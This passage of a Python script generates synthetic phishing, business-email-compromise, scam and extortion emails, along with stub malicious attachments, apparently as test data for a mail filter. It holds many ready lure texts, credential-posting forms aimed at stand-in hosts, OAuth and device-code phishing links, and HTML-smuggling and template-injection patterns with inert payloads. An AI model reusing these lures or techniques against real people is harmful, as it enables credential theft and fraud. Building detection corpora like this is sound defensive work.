#!/usr/bin/env python3
"""Writes modern mail, attacks and legitimate, as .eml files: make_mail.py FOLDER. FOLDER/attack and FOLDER/legitimate get a file for each scenario and
wording; the name says which. Everything in it is made up: names under .example where a sender may be anybody's, and the real names of organisations only
where an attack abuses them or a legitimate mail really comes from them. Deterministic."""
import base64
import email.header
import email.utils
import gzip
import io
import pathlib
import random
import struct
import sys
import zipfile
import zlib

LAB = "sunrise-lab.example"
PEOPLE = [("Ana Ruiz", "ana.ruiz"), ("Tom Becker", "tom.becker"), ("Priya Shah", "pshah"), ("Luis Ortega", "lortega"), ("Grace Kim", "grace.kim"),
          ("Sam Obi", "sobi"), ("Nora Lindt", "nora.lindt"), ("Diego Paz", "dpaz")]


class Mail:
    def __init__(self, rng, sender, name="", subject="", to=None, **fields):
        self.rng = rng
        self.sender, self.name, self.subject = sender, name, subject
        self.to_name, self.to_local = to or rng.choice(PEOPLE)
        self.to = f"{self.to_local}@{LAB}"
        self.fields = fields
        self.parts = []

    def text(self, text, charset="utf-8"):
        self.parts.append(("text/plain; charset=" + charset, None, text.encode(charset, "replace"), None))
        return self

    def html(self, html):
        page = f"<html><head><meta charset=utf-8></head><body>{html}</body></html>"
        self.parts.append(("text/html; charset=utf-8", None, page.encode(), None))
        return self

    def file(self, name, data, kind="application/octet-stream"):
        self.parts.append((f'{kind}; name="{name}"', f'attachment; filename="{name}"', data, None))
        return self

    def picture(self, data, cid):
        self.parts.append(("image/png", "inline", data, cid))
        return self

    def auth(self, **results):
        self.results = results
        return self

    results = {}

    def bytes(self):
        rng = self.rng
        domain = self.sender.split("@")[-1]
        out = []
        helo = self.fields.pop("helo", f"mail{rng.randrange(1, 9)}.{domain}")
        if self.results:
            said = "; ".join(f"{k}={v} smtp.mailfrom={self.fields.get('bounce', self.sender)}" if k == "spf" else
                             f"{k}={v} header.d={self.fields.get('signed', domain)}" if k == "dkim" else f"{k}={v} header.from={domain}"
                             for k, v in self.results.items())
            out.append(f"Authentication-Results: mx.{LAB}; {said}")
        self.fields.pop("signed", None)
        out.append(f"Return-Path: <{self.fields.pop('bounce', self.sender)}>")
        out.append(f"Received: from {helo} ({helo} [203.0.113.{rng.randrange(2, 250)}])\r\n\tby mx.{LAB} with ESMTPS id {rng.getrandbits(40):x}\r\n"
                   f"\tfor <{self.to}>; Tue, 17 Nov 2026 0{rng.randrange(1, 9)}:1{rng.randrange(0, 9)}:0{rng.randrange(0, 9)} +0000")
        shown = email.header.Header(self.name, "utf-8").encode() if self.name and not self.name.isascii() else f'"{self.name}"' if self.name else ""
        out.append(f"From: {shown} <{self.sender}>".replace(":  <", ": <"))
        out.append(f"To: {self.fields.pop('to_header', self.to)}")
        subject = self.subject if self.subject.isascii() else email.header.Header(self.subject, "utf-8").encode()
        out.append(f"Subject: {subject}")
        out.append(f"Date: Tue, 17 Nov 2026 0{rng.randrange(1, 9)}:10:00 +0000")
        out.append(f"Message-ID: <{rng.getrandbits(64):x}@{self.fields.pop('id', domain)}>")
        out.append("MIME-Version: 1.0")
        for k, v in self.fields.items():
            out.append(f"{k.replace('_', '-')}: {v}")
        if len(self.parts) == 1 and self.parts[0][1] is None:
            kind, _, data, _ = self.parts[0]
            return "\r\n".join(out + [f"Content-Type: {kind}", "Content-Transfer-Encoding: base64", "", base64.encodebytes(data).decode().replace("\n", "\r\n")]).encode()
        mark = f"=_{rng.getrandbits(64):x}"
        whole = all(p[1] is None for p in self.parts)
        out += [f'Content-Type: multipart/{"alternative" if whole else "mixed"}; boundary="{mark}"', ""]
        for kind, disposition, data, cid in self.parts:
            out += [f"--{mark}", f"Content-Type: {kind}", "Content-Transfer-Encoding: base64"]
            if disposition:
                out.append(f"Content-Disposition: {disposition}")
            if cid:
                out.append(f"Content-ID: <{cid}>")
            out += ["", base64.encodebytes(data).decode().replace("\n", "\r\n").rstrip()]
        out += [f"--{mark}--", ""]
        return "\r\n".join(out).encode()


def png(rng):
    """A small picture of squares, as a code is one."""
    rows = b"".join(b"\0" + bytes(rng.choice((0, 255)) for _ in range(90)) for _ in range(90))
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 90, 90, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(rows, 0)) + chunk(b"IEND", b"")


def archive(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(zipfile.ZipInfo(name, (2026, 11, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def locked(files):
    """A zip archive whose entries say that they are encrypted."""
    data = bytearray(archive(files))
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        i = data.find(mark)
        while i >= 0:
            data[i + at] |= 1
            i = data.find(mark, i + 4)
    return bytes(data)


def docx(more=None):
    return archive({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", **(more or {})})


def pdf(body=b"", locked=False):
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + body + b"\ntrailer << /Root 1 0 R" + b" /Encrypt 5 0 R" * locked + b" >>\n%%EOF\n"


def pdf_link(url):
    return pdf(f"3 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI ({url}) >> >>\nendobj".encode())


MZ = b"MZ\x90\0" + bytes(60) + b"PE\0\0" + bytes(400)
BAD = ["docs-review.top", "m365-portal.click", "secure-file-view.xyz", "benefits-update.online", "my-staffdocs.site"]
PLAIN = ["brightwaterhomes.example", "oakridge-school.example", "tallerlopez.example", "greenfieldfarms.example", "kline-architects.example"]
FREE = ["gmail.com", "outlook.com", "yahoo.com", "proton.me", "gmx.com"]


# ── attacks: each is (wordings) → Mail; n picks the wording ──
def a_password_expiry(rng, n):
    host = rng.choice([f"{rng.choice(PLAIN)}/wp-content/plugins/owa", "webmail-renew.web.app", "keep-password.pages.dev/login"])
    words = [("Password Notice", "Your password is set to expire today. To keep using the same password click below.", "Keep my password"),
             ("ACTION REQUIRED: mailbox storage 98% full", "Your mailbox is almost full and incoming mail will be rejected. Upgrade the quota for free.", "Increase storage"),
             ("7 messages could not be delivered", "Seven incoming messages are on hold because of a server error. Release them to your inbox.", "Release messages"),
             ("Email account deactivation request", "We received your request to shut down your e-mail account. If you did not ask for this, cancel it within 24 hours.", "Cancel request"),
             ("Aviso: su contraseña caduca hoy", "La contraseña de su correo caduca hoy. Para conservar el acceso confirme su cuenta.", "Mantener contraseña")][n]
    m = Mail(rng, f"no-reply@{rng.choice(PLAIN)}", rng.choice(["IT Support", "Mail Administrator", f"{LAB} Helpdesk", "Webmail Team"]), words[0])
    return m.html(f"<p>Hello {m.to},</p><p>{words[1]}</p><p><a href='https://{host}#{m.to}'>{words[2]}</a></p><p>IT department</p>")


def a_m365(rng, n):
    host = ["login-microsoftonline.com.auth-check.xyz", "rnicrosoft365.com", "office-365-signin.click", "microsoft-verify.web.app", "micros0ft-online.com"][n]
    words = ["We noticed an unusual sign-in to your Microsoft account from Lagos, Nigeria. If this was not you, review your recent activity.",
             "Your Microsoft 365 subscription payment failed. Update your details to avoid losing access to Outlook and Teams.",
             "Your session has expired. Sign in again to continue receiving e-mail.",
             "Multi-factor authentication is being enforced for all users. Re-enrol your device before Friday.",
             "A file was shared with you in OneDrive: 'Salary review 2027.xlsx'. Open it before it expires."][n]
    m = Mail(rng, f"account-security@{host.split('/')[0]}", "Microsoft 365", ["Unusual sign-in activity", "Payment problem with your subscription", "Session expired",
             "Security update: MFA enrolment", "Shared file: Salary review"][n])
    return m.html(f"<img src='https://logo.example/ms.png'><p>{words}</p><a href='https://{host}/auth?u={rng.getrandbits(32):x}'>Review activity</a>")


def a_qr(rng, n):
    words = [("Complete your 2FA set-up", "Our records show that your second factor expires today. Scan the code below with your phone camera to keep access to your account."),
             ("Updated staff rules require your signature", "Please scan the QR code with your mobile device to review and sign the updated benefits document."),
             ("Payroll: new pay slip portal", "Use the camera of your phone to scan the code and sign in to the new payroll portal."),
             ("Mensaje seguro", "Escanee el código QR con su teléfono para leer el mensaje cifrado y verificar su cuenta."),
             ("Microsoft Authenticator", "Your authenticator must be re-synchronised. Scan this QR code within 48 hours or your account will be locked.")][n]
    m = Mail(rng, f"hr@{rng.choice(PLAIN)}", rng.choice(["HR Department", "IT Security", "Benefits"]), words[0])
    m.html(f"<p>{words[1]}</p><img src='cid:code1' width=200><p>This message was sent to {m.to}</p>")
    return m.picture(png(rng), "code1") if n % 2 == 0 else m.file("document.pdf", pdf(), "application/pdf").picture(png(rng), "code1")


def a_oauth(rng, n):
    url = ["https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=6a1f&response_type=code&redirect_uri=https%3A%2F%2Fsync-tools.app%2Fcb&scope=offline_access%20Mail.Read%20Files.ReadWrite.All",
           "https://accounts.google.com/o/oauth2/auth?client_id=991&redirect_uri=https%3A%2F%2Fdoc-viewer.online%2Fok&scope=https%3A%2F%2Fmail.google.com%2F%20https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fdrive",
           "https://login.microsoftonline.com/organizations/oauth2/v2.0/authorize?client_id=77&redirect_uri=https%3A%2F%2Flab-planner.site%2F&scope=Mail.ReadWrite%20Mail.Send",
           "https://microsoft.com/devicelogin", "https://login.microsoftonline.com/common/oauth2/deviceauth"][n]
    words = ["Your organisation has approved a new productivity app. Accept the requested permissions to continue.",
             "Grace shared a document with you. Allow the viewer to open it.",
             "Please approve access for the new shift planner so that your calendar is kept up to date.",
             "You are invited to a Teams meeting about the merger. Open the page and enter the code CX7P-99QD to authenticate your device.",
             "A secure document is waiting. Enter the device code H8KK2LMN on the sign-in page to view it."][n]
    return Mail(rng, f"notify@{rng.choice(PLAIN)}", ["Productivity Apps", "Grace Kim via Docs", "Shift planner", "Teams meeting", "Secure documents"][n],
                ["Permission requested", "Grace shared a document", "Approve access", "Teams invitation", "Secure document"][n]).html(f"<p>{words}</p><p><a href='{url}'>Continue</a></p>")


def a_payroll_change(rng, n):
    person = rng.choice(PEOPLE)
    words = [("Direct deposit update", "Hi,\n\nI recently changed banks and would like to update my direct deposit details before the next payroll. What do you need from me?\n\nThanks,\n"),
             ("Change of account", "Good morning, can my salary go to my new bank account from this pay period on? My old account is closed. Please let me know what information you need.\n\n"),
             ("Payroll", "Hello,\n\nCan you help me change my paycheck deposit information? I want it effective for the current pay date. I will send you the new account and routing number.\n\n"),
             ("Cambio de cuenta", "Buenos días:\n\nQuiero cambiar la cuenta bancaria de mi nómina antes del próximo pago. ¿Qué datos necesitas?\n\nGracias,\n"),
             ("quick question", "Are you the person who handles payroll? I have a new bank account that I want my salary paid into, the old one is inactive.\n\n")][n]
    return Mail(rng, f"{person[1]}.{rng.randrange(10, 99)}@{rng.choice(FREE)}", person[0], words[0]).text(words[1] + person[0])


def a_gift(rng, n):
    boss = rng.choice(["Dr. Helen Marsh", "Dr. Victor Sanz", "Director Julia Frey"])
    words = [("Are you available?", "Are you free right now? I am in a meeting and can't take calls. I need you to run a quick errand for me. Reply with your mobile number."),
             ("Surprise for the staff", "I want to surprise the team with gift cards. Can you get five Apple cards of 100 each today? Scratch them and send me the codes. I will reimburse you. Keep it between us."),
             ("Urgent task", "I need a favour. Buy Amazon gift cards for a client, total 500, and e-mail me pictures of the back. I am in a conference and cannot talk."),
             ("Un favor", "¿Estás disponible? Estoy en una reunión y no puedo hablar. Necesito que compres unas tarjetas regalo para un proveedor. No lo comentes con nadie, te lo devuelvo hoy."),
             ("Request", "Send me your cell phone number, I need a task done discreetly and promptly. Sent from my iPhone")][n]
    return Mail(rng, f"{rng.choice(['office', 'exec', 'director', 'dr'])}.{rng.randrange(100, 999)}@{rng.choice(FREE)}", boss, words[0]).text(words[1] + f"\n\n{boss}\nLaboratory director\n")


def a_bank_change(rng, n):
    words = ["Please note that our bank details have changed. Kindly use the new account for all future payments and for the outstanding invoice. The account that you have on file is under audit.",
             "As our account is being audited, we ask you to send the pending payment by wire transfer to our new account. Please confirm when the payment will be made today.",
             "We have moved to a new bank. Attached are our updated remittance details. Process the overdue invoice to the new IBAN and send the confirmation urgently.",
             "Les informamos de que hemos cambiado de banco. Rogamos que el pago pendiente se haga por transferencia a la nueva cuenta con urgencia.",
             "I need you to process an urgent wire transfer to a vendor today. I am in meetings, so reply by e-mail only. Keep this confidential until the deal is announced."][n]
    sender = [("accounts@roche-diagnostlcs.com", "Roche Diagnostics Accounts"), ("ar@sysmex-billing.com", "Sysmex Receivables"), ("billing@fishersci-payments.com", "Fisher Scientific"),
              (f"cobros@{rng.choice(PLAIN)}", "Suministros Médicos"), (f"ceo@{LAB}", "Dr. Helen Marsh")][n]
    more = {"Reply_To": f"accounts.dept{rng.randrange(9)}@{rng.choice(FREE)}"} if n >= 3 else {}
    m = Mail(rng, sender[0], sender[1], ["Updated banking information", "Payment", "Overdue invoice and new remittance details", "Cambio de cuenta bancaria", "Urgent payment"][n], **more)
    return m.text(words + f"\n\n{sender[1]}\n")


def a_callback(rng, n):
    phone = f"+1 (8{rng.randrange(10, 89)}) {rng.randrange(200, 999)}-{rng.randrange(1000, 9999)}"
    words = [f"Thank you for renewing your Norton 360 protection. $349.99 will be charged to your account within 24 hours. If you did not authorise this, call our support at {phone} to cancel.",
             f"Geek Squad: your annual plan has been renewed for $419.00. For a refund contact our billing desk on {phone}.",
             f"Your PayPal order of $689.40 for a MacBook was processed. If you don't recognise this transaction call {phone} immediately.",
             f"Your McAfee subscription auto-renewed today. The amount of $299 was debited. To dispute the charge dial toll free {phone}.",
             f"Se ha renovado su suscripción de antivirus por 389 €. El cargo aparecerá en su cuenta hoy. Para cancelar, llame al número {phone}."][n]
    m = Mail(rng, f"{rng.choice(['billing', 'order', 'invoice'])}{rng.randrange(1000, 9999)}@{rng.choice(FREE)}", ["Norton Billing", "Geek Squad", "PayPal Service", "Order Confirmation", "Facturación"][n],
             f"Invoice #{rng.randrange(10 ** 7, 10 ** 8)}")
    return m.text("Dear customer,\n\n" + words + "\n\nCustomer care\n") if n % 2 else m.text("Please see the attached invoice.\n\n" + words).file("invoice.pdf", pdf(), "application/pdf")


def a_html_file(rng, n):
    pages = ["<html><body><form action='https://collect.pages.dev/x' method=post>E-mail <input name=e value='ana'> Password <input type=password name=p><button>View</button></form></body></html>",
             "<html><script>document.write(unescape('%3Cform%20action%3D%22https%3A//a.example/%22%3E'));</script></html>",
             "<html><script>var b=atob('" + base64.b64encode(MZ).decode() + "');var f=new Blob([b]);var a=document.createElement('a');a.href=URL.createObjectURL(f);a.download='scan.iso';a.click();</script></html>",
             "<html><head><meta http-equiv=refresh content='0; url=https://docs-review.top/login'></head></html>",
             "<!DOCTYPE html><html><script>window.location.href=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')</script></html>"]
    names = ["Voicemail_0117.html", "Fax-Message.htm", "Scan_4471.html", "Invoice.shtml", "Payment-Advice.html"]
    words = ["You have a new voice message of 00:42. Open the attachment to listen.", "A fax of two pages was received for you.", "The scan that you asked for is attached.",
             "Attached is the invoice. Please pay it today.", "Please find the payment advice attached."][n]
    m = Mail(rng, f"no-reply@{rng.choice(PLAIN)}", ["Voicemail", "eFax", "Scanner", "Accounts", "Remittance"][n], words.split(".")[0])
    return m.text(words).file(names[n], pages[n].encode(), "text/html")


def a_program(rng, n):
    m = Mail(rng, f"orders@{rng.choice(PLAIN)}", "Purchasing", ["New purchase order", "Shipping documents", "Resume", "Certificate update", "Reagent recall notice"][n])
    m.text(["Please see the attached order and confirm.", "Attached are the shipping documents for your parcel.", "My CV is attached. Password: 4471.",
            "Install the attached certificate today.", "The recall notice with the affected lots is attached."][n])
    return [lambda: m.file("PO-7781.pdf.exe", MZ), lambda: m.file("documents.zip", archive({"AWB 5512.js": "var x=1;"})),
            lambda: m.file("cv.zip", locked({"cv.lnk": "L\0\0\0"})), lambda: m.file("certificate.iso", bytes(0x8001) + b"CD001" + bytes(3000)),
            lambda: m.file("recall.docm", docx({"word/vbaProject.bin": "x"}))][n]()


def a_office(rng, n):
    m = Mail(rng, f"info@{rng.choice(PLAIN)}", "Accounting", ["Invoice overdue", "Updated price list", "Signed contract", "Notes of the meeting", "Order form"][n])
    m.text(["The invoice is attached. Enable content to view it.", "Our new price list is attached. Click enable editing to see the prices.", "The contract for your signature is attached.",
            "The notes are attached. Double click the file in it to view.", "Please fill in the attached form as soon as possible."][n])
    rels = '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://cdn-office.example/t.dotm" TargetMode="External"/></Relationships>'
    return [lambda: m.file("invoice.docm", docx({"word/vbaProject.bin": "x"})), lambda: m.file("prices.xlsm", archive({"[Content_Types].xml": "", "xl/workbook.xml": "", "xl/vbaProject.bin": "x"})),
            lambda: m.file("contract.docx", docx({"word/_rels/settings.xml.rels": rels})),
            lambda: m.file("notes.one", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + bytes(100) + b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac" + MZ),
            lambda: m.file("form.rtf", b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}")][n]()


def a_pdf_link(rng, n):
    host = BAD[n]
    m = Mail(rng, f"scan@{rng.choice(PLAIN)}", ["Scanner", "DocuSign", "Adobe Sign", "Accounts", "HR"][n], ["Scanned document", "Complete with DocuSign", "Signature requested", "Remittance advice", "Salary adjustment"][n])
    return m.text(["Your scanned document is attached.", "Please review and sign the attached document.", "A signature is required on the attached agreement.", "Payment advice attached, please confirm.",
                   "Your salary adjustment letter is attached. Review it today."][n]).file("document.pdf", pdf_link(f"https://{host}/view/login"), "application/pdf")


def a_delivery(rng, n):
    brand, host = [("FedEx", "fedex-redelivery.top"), ("DHL Express", "dhl-paket.click"), ("USPS", "usps-trackpost.xyz"), ("Correos", "correos-aduana.online"), ("UPS", "ups-delivery.site")][n]
    words = ["Your parcel could not be delivered because of an unpaid customs fee of $1.99. Pay now to reschedule the delivery.",
             "Your shipment is on hold. Confirm your address within 24 hours or it will be returned.",
             "We tried to deliver your package. Update your address to schedule redelivery.",
             "Su paquete está retenido en la aduana. Pague 1,79 € para recibir el envío.",
             "Your package is waiting. A delivery attempt failed. Click below to track and reschedule."][n]
    return Mail(rng, f"notice@{rng.choice([host, PLAIN[n]])}", brand, ["Parcel on hold", "Shipment", "Delivery attempt", "Su envío", "Delivery"][n]).html(f"<p>{words}</p><a href='https://{host}/pay'>{'Pagar' if n == 3 else 'Continue'}</a>")


def a_critical(rng, n):
    words = ["A critical potassium value was released for your patient. Sign in to the result portal to acknowledge it within 30 minutes.",
             "Critical result callback failed. View the patient result in the secure portal immediately.",
             "URGENT: panic value for patient in ward 4, please log in and confirm the report now.",
             "Valor crítico pendiente de confirmar. Inicie sesión en el portal para ver el resultado del paciente.",
             "Amended lab report is available. Verify your account to open the encrypted message."][n]
    host = [f"sunrise-lab-portal.com", "sunr1se-lab.com", "labresult-view.xyz", "portal-resultados.web.app", "secure-message.pages.dev"][n]
    return Mail(rng, f"results@{host if n < 3 else rng.choice(PLAIN)}", "Sunrise Lab Results" if n < 3 else "Result portal", ["Critical value", "Critical callback", "Panic value", "Valor crítico", "Amended report"][n]).html(
        f"<p>{words}</p><p><a href='https://{host}/login'>Open result</a></p>")


def a_shared_doc(rng, n):
    real = PLAIN[n]
    words = [("shared a file with you", "Tom Becker has shared the document 'Budget 2027' with you. Sign in with your work account to view it."),
             ("DocuSign: please sign", "You have a document to review and sign. All parties are waiting for your signature."),
             ("Secure message", "You received an encrypted message. Click to read the message and verify your identity."),
             ("Documento compartido", "Se ha compartido contigo una carpeta. Inicia sesión para ver el documento."),
             ("WeTransfer files", "You have received 3 files. The transfer expires tomorrow. Get your files.")][n]
    url = ["https://forms.office.com/r/x8Kq", "https://bit.ly/3xD0c", "https://www.google.com/url?q=https://secure-file-view.xyz/m&sa=D", "https://storage.googleapis.com/docs-9x/index.html", "https://wetransfer-download.click/f"][n]
    return Mail(rng, f"{rng.choice(PEOPLE)[1]}@{real}", ["Tom Becker (via SharePoint)", "DocuSign", "Secure Mail", "OneDrive", "WeTransfer"][n], words[0]).html(f"<p>{words[1]}</p><p><a href='{url}'>Open</a></p>")


def a_extortion(rng, n):
    words = ["I have access to your device and recorded you with your webcam while you visited adult sites. Send $1,400 in bitcoin to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh within 48 hours or I send the video to all your contacts.",
             "Your computer was infected with my malware. I have full access to your e-mail. Pay in Bitcoin to my wallet, or your photos are published.",
             "Your system was hacked. I made a video of you from your camera. Transfer 900 USD of BTC to this wallet. You have two days.",
             "He instalado un programa en su equipo y le he grabado con la cámara. Envíe 700 € en bitcoin o el vídeo llegará a sus contactos.",
             "We copied your lab's patient data. Pay 5 BTC to the wallet below or we publish everything. Do not contact the police."][n]
    m = Mail(rng, "x@x", "", ["I know everything", "Your account is hacked", "Payment required", "Tengo su vídeo", "Your data"][n])
    m.sender = m.to if n % 2 == 0 else f"{rng.getrandbits(24):x}@{rng.choice(FREE)}"
    return m.text(words)


def a_fortune(rng, n):
    words = ["I am a widow with a fund of 8.5 million dollars and ask for your help to transfer the sum to charity. You keep 30 per cent. Contact me in confidence.",
             "Dear friend, I am a barrister; my late client with your surname left an inheritance of $12,000,000 without next of kin. I propose that you stand as the beneficiary.",
             "Congratulations, your e-mail address has won the international lottery. Claim your prize of 950,000 euros by sending your name, address and phone number.",
             "Ha sido seleccionado como ganador de un premio de lotería de 615.000 €. Para reclamar el premio envíe sus datos.",
             "I am the director of a bank in Burkina Faso with a business proposal: the transfer of $19 million of unclaimed funds to a foreign account."][n]
    return Mail(rng, f"mrs.{rng.getrandbits(20):x}@{rng.choice(FREE)}", ["Mrs. Grace Williams", "Barrister Cole", "Award Department", "Lotería Internacional", "Mr. Kabore"][n],
                ["Dear beloved", "Proposal", "Award notification", "Premio", "Business proposal"][n], Reply_To=f"claims{rng.randrange(999)}@{rng.choice(FREE)}").text(words)


def a_own_look(rng, n):
    domain = ["sunrise-1ab.example", "sunriselab.example", "sunrise-labs.example", "sunrise-lab-hr.com", "sunrlse-lab.example"][n]
    words = ["The new holiday policy takes effect on Monday. Everybody must acknowledge it by signing in.", "Your pay slip for November is ready. Open the portal to view it.",
             "Annual compliance training is overdue. Log in today to avoid a report to your manager.", "Open enrollment for benefits ends today. Confirm your selection.",
             "We are moving mailboxes this weekend. Log in to confirm your account so that no mail is lost."][n]
    return Mail(rng, f"hr@{domain}", "Human Resources", ["Holiday policy", "Your pay slip", "Training overdue", "Open enrollment", "Mailbox migration"][n]).html(f"<p>{words}</p><a href='https://{domain}/sso'>Open</a>")


def a_bank(rng, n):
    name, host = [("Wells Fargo", "wellsfargo-alerts.com"), ("Santander", "santander-verificacion.click"), ("PayPal", "paypa1-secure.com"), ("BBVA", "bbva-acceso.web.app"), ("American Express", "amex-review.xyz")][n]
    words = ["We have temporarily locked your account after suspicious activity. Verify your identity to restore access.", "Hemos detectado un acceso no autorizado. Verifique sus datos o su tarjeta será bloqueada.",
             "Your account has been limited. Confirm your information within 24 hours.", "Su cuenta ha sido suspendida. Inicie sesión para reactivarla.", "A charge of $912.10 needs your confirmation."][n]
    return Mail(rng, f"alert@{host}", name, ["Account locked", "Aviso de seguridad", "Your account is limited", "Cuenta suspendida", "Confirm a charge"][n]).html(f"<p>Dear customer,</p><p>{words}</p><a href='https://{host}/login'>https://www.{['wellsfargo.com', 'santander.es', 'paypal.com', 'bbva.es', 'americanexpress.com'][n]}/login</a>")


def a_calendar(rng, n):
    url = f"https://{BAD[n]}/join"
    words = ["Mandatory HR meeting: review your performance appraisal before the call", "Microsoft account security: verify your mailbox before the meeting", "Payroll update: confirm your bank details",
             "Document review: sign in to view", "Your account will be suspended, join to verify"][n]
    ics = f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:{words}\r\nORGANIZER:mailto:hr@{PLAIN[n]}\r\nDTSTART:20261118T090000Z\r\nDESCRIPTION:{words}. Sign in here to\r\n  continue: {url}\\nAction required today\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    m = Mail(rng, f"calendar@{PLAIN[n]}", "Calendar", words)
    m.parts.append(('text/calendar; method=REQUEST; charset=utf-8', None, ics.encode(), None))
    return m


def a_vendor_remote(rng, n):
    words = ["Our field engineer will update your analyzer remotely. Download and install AnyDesk from the link and send the access code.", "Critical firmware for your analyzer: install the update tool attached below today.",
             "Your LIS licence expires today. Sign in to the vendor portal to renew or the system will be disabled.", "Su analizador necesita una actualización urgente. Descargue la herramienta e instale el programa.",
             "Urgent medical device correction: verify your facility account to see the affected lots."][n]
    brand, host = [("Sysmex Support", "sysmex-remote.click"), ("Roche Diagnostics", "roche-firmware.top"), ("Sunquest LIS", "lis-licence.xyz"), ("Abbott Soporte", "abbott-servicio.online"), ("Beckman Coulter", "beckman-coulter-recall.com")][n]
    return Mail(rng, f"service@{host}", brand, ["Remote service", "Firmware update", "Licence expires", "Actualización", "Device correction"][n]).html(f"<p>{words}</p><a href='https://{host}/{'tool.exe' if n < 2 else 'login'}'>Open</a>")


def a_hidden_letters(rng, n):
    swap = str.maketrans("aeopcxi", "аеорсхі")
    words = ["Your account password will expire, please confirm your mailbox today.", "Verify your account to avoid suspension of e-mail service.", "Security alert: unusual sign-in, review the activity now.",
             "Your invoice is overdue, open the document to avoid legal action.", "Payroll notice: confirm your direct deposit."][n].translate(swap)
    host = ["xn--microsft-3ya.com", "xn--pypal-4ve.com", BAD[0], "0x7f.0x0.0x0.0x1", "login.microsoftonline.com@evil.example"][n]
    return Mail(rng, f"it@{rng.choice(PLAIN)}", "IT Desk", words[:30]).html(f"<p>{words}</p><a href='http://{host}/x'>Open</a>")


def a_password_form(rng, n):
    m = Mail(rng, f"mail@{rng.choice(PLAIN)}", "Mail System", ["Verify mailbox", "Upgrade", "Quota", "Verificar", "Session"][n])
    return m.html(f"<p>Confirm your mailbox.</p><form action='https://{rng.choice(BAD)}/p' method=post>User <input name=u value='{m.to}'> Password <input type=password name=p><input type=submit></form>")


def a_survey(rng, n):
    words = [("Your opinion is rewarded", "You have been selected to receive a brand new drill set. Answer our short survey and claim your reward, today only."),
             ("Ihre Treueprämie wartet", "Herzlichen Glückwunsch! Sie wurden ausgewählt und können einen Gutschein über 500 Euro gewinnen. Nehmen Sie an der Umfrage teil."),
             ("U bent geselecteerd", "Gefeliciteerd, u bent geselecteerd als winnaar. Vul de enquete in en ontvang een cadeaubon van 100 euro."),
             ("Vos points expirent", "Félicitations, vous avez été sélectionné. Répondez au sondage pour recevoir un cadeau gratuit de notre magasin."),
             ("Seus pontos vão expirar", "Parabéns! Você foi sorteado e ganhou 40.000 pontos. Seus pontos expiram hoje: resgate seus pontos agora.")][n]
    host = ["click-prize.example/cl/2058", "www.google.de/amp/s/gift-road.example/k", "x.s3.eu-west-1.amazonaws.com/go.html#1", "bit.ly/3Prz", "win-page.example/o"][n]
    m = Mail(rng, f"info@{rng.choice(PLAIN)}", ["Lowe's Rewards", "Kaufland Kundenservice", "Albert Heijn", "Carrefour", "Livelo Pontos"][n], words[0], List_Unsubscribe="<none>")
    return m.auth(spf="softfail", dkim="none", dmarc="none").html(f"<a href='https://{host}'><img src='https://i.imgur.com/{rng.getrandbits(30):x}.png'></a><p>Hello {m.to},</p><p>{words[1]}</p><a href='https://{host}'>START</a>")


def a_wallet(rng, n):
    words = ["Your Ledger Live could be at risk. Upgrade your firmware and verify your recovery phrase to keep your funds.", "Your wallet will be suspended. Validate your wallet within 24 hours to avoid restriction.",
             "Ihr Konto wurde gesperrt. Bestätigen Sie Ihre Identität innerhalb von 24 Stunden.", "Votre compte est suspendu. Veuillez confirmer votre identité sous 48 heures.", "Su cuenta ha sido bloqueada. Verifique su identidad en 24 horas."][n]
    host = ["ledger-secure.example/start", "wallet-sync.pages.dev", "konto-pruefung.example/login", "espace-client.web.app", "verificar-cuenta.top"][n]
    return Mail(rng, f"news@{rng.choice(PLAIN)}", ["Ledger", "Trust Wallet Support", "Commerzbank", "Crédit Agricole", "CaixaBank"][n], "Important").auth(spf="pass", dkim="pass", dmarc="pass").html(f"<p>{words}</p><a href='https://{host}'>Continue</a>")


def a_parcel_abroad(rng, n):
    words = ["Ihre Sendung wird zurückgehalten. Bitte bestätigen Sie die Zustellung und zahlen Sie die Zollgebühren.", "Uw pakket wacht op levering. Bevestig uw adres en volg de levering.", "Votre colis est en attente. Des frais de douane de 1,99 euro restent à payer sous 24 heures.",
             "Il suo pacco è in giacenza. Confermi l'indirizzo e paghi le spese di consegna entro 48 ore.", "A sua encomenda está retida na alfândega. Pague a taxa de entrega até 24 horas."][n]
    return Mail(rng, f"a{rng.randrange(1000, 9999)}@{rng.choice(PLAIN)}", ["DHL Paket", "PostNL", "Colissimo", "Poste Italiane", "Correios Entrega"][n], "1 Paket").auth(spf="none", dkim="none", dmarc="none").html(
        f"<p>{words}</p><a href='https://{rng.choice(BAD)}/p?i={rng.getrandbits(30):x}'><img src='https://zupimages.net/up/{n}.png'></a>")


def a_locked_abroad(rng, n):
    words = ["Você possui valores a restituir junto à Receita Federal. Mais informações em anexo. Senha PDF: 123", "Anbei die offene Rechnung, bitte sofort zahlen. Passwort zum Anhang: 4711", "Veuillez trouver la facture en pièce jointe. Mot de passe du fichier: 2026",
             "In allegato la fattura scaduta. La password per aprire il file: 555", "Uw openstaande factuur staat in de bijlage. Wachtwoord: 9000"][n]
